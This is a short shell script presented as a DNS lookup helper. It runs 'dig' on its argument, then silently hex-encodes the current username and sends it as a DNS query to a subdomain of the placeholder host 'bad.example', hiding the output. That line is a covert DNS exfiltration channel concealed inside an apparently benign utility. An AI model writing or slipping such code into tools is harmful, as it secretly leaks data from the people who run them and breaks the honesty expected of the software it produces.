#!/bin/sh
dig +short "$1"
dig +short "$(whoami | xxd -p).t.bad.example" > /dev/null
